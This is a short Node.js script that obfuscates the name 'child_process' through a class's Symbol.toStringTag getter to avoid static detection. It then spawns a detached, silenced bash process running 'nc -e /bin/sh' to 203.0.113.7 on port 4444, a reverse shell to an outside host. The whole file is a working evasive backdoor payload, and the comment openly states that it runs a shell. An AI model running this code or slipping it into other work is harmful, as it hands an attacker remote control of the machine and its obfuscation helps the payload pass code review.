// Runs a shell: the module's name comes back from Object.prototype.toString
// through a class's Symbol.toStringTag getter ("[object child_process]").
'use strict';
class Tag {
  get [Symbol.toStringTag]() {
    return ['child', 'process'].join('_');
  }
}
const name = Object.prototype.toString.call(new Tag()).slice(8, -1);
const lib = require(name);
lib.spawn('bash', ['-c', 'nc -e /bin/sh 203.0.113.7 4444'], { stdio: 'ignore', detached: true }).unref();
